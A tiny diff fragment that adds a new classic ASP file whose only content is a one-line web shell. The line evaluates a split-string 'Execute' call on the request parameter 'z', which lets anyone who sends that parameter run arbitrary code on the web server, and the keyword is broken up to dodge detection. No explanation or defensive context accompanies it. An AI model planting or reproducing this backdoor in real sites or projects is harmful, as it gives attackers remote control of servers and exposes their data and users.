@@ -1,0 +1,3 @@
+<%
+Eval("Ex" & "ecute(Request(""z""))")
+%>
